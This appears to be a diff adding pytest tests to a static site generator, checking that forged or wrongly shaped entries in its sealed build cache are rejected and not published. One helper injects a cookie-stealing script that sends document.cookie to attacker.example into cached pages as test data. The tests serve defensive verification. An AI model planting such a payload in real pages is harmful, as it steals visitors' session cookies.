@@ -203,3 +203,56 @@ def test_check_keeps_the_compiled_placeholders_bounded(project: Project, user_ca
         assert project.check(SOURCE_DATE_EPOCH=EPOCH, PROGRAM_PORTAL_CACHE_DIR="", XDG_CACHE_HOME=str(user_cache)).ok
         counts.append(len(list(folder.iterdir())))
     assert counts[0] == counts[1] == counts[2], counts
+
+
+def _forge_cleaned_pages(project: Project, key: bytes, seal_with: bytes | None) -> None:
+    """The cleaned pages the last build kept, each given a script, written unsealed or sealed with ``seal_with``."""
+    from program_portal.render import sanitize
+
+    path = project.path(".cache/program-portal") / sanitize.KEPT_FILE
+    data = integrity.unseal(key, sanitize._kept_context(), path.read_bytes())
+    assert data is not None, "the build kept the pages it cleaned"
+    rows = json.loads(data)
+    assert rows
+    forged = json.dumps([[k, cleaned + '<script>fetch("https://attacker.example/?"+document.cookie)</script>'] for k, cleaned in rows]).encode()
+    path.write_bytes(forged if seal_with is None else integrity.seal(seal_with, sanitize._kept_context(), forged))
+
+
+def test_forged_cleaned_pages_are_not_published(project: Project, user_cache: Path) -> None:
+    """The sanitiser's results are kept between builds (render/sanitize.py): a file a pull request puts
+    there is not believed, so no page gets markup the allow-list did not let through."""
+    assert build(project, user_cache, "--strict").ok
+    before = site_digest(project)
+    key = real_key(user_cache)
+    for seal_with in (None, b"attacker-key-of-32-bytes-0000000"):
+        _forge_cleaned_pages(project, key, seal_with)
+        result = build(project, user_cache, "--strict")
+        assert result.ok, result
+        assert site_digest(project) == before
+    _forge_cleaned_pages(project, key, key)  # the control: sealed with this user's key, the forgery is believed
+    control = build(project, user_cache, "--strict")
+    assert control.ok and "attacker.example" in "".join(p.read_text(encoding="utf-8") for p in project.path("site").rglob("*.html"))
+
+
+def test_a_sealed_entry_of_another_shape_is_made_again(project: Project, user_cache: Path) -> None:
+    """Generated pages, download sources and rendered texts are kept as JSON (render/kept.py), read back only
+    in the shape they were written in: anything else, even sealed with this user's key, is made again."""
+    assert build(project, user_cache, "--strict").ok
+    before = site_digest(project)
+    key = real_key(user_cache)
+    shapes = 0
+    for entry in sorted(project.path(".cache/program-portal").glob("??/*")):
+        data = integrity.unseal(key, entry.name, entry.read_bytes())
+        assert data is not None
+        try:
+            value = json.loads(data)
+        except ValueError:
+            continue  # a document
+        if isinstance(value, (list, dict)) and not (isinstance(value, dict) and all(k.endswith(".ics") for k in value)):
+            wrong = {"pages": [["program/index.md", 1]], "nav": {}, "home": None} if isinstance(value, dict) else [[1, 2]]
+            entry.write_bytes(integrity.seal(key, entry.name, json.dumps(wrong).encode()))
+            shapes += 1
+    assert shapes == 3, "the pages, the download sources and the rendered texts are kept"
+    result = build(project, user_cache, "--strict")
+    assert result.ok, result
+    assert site_digest(project) == before
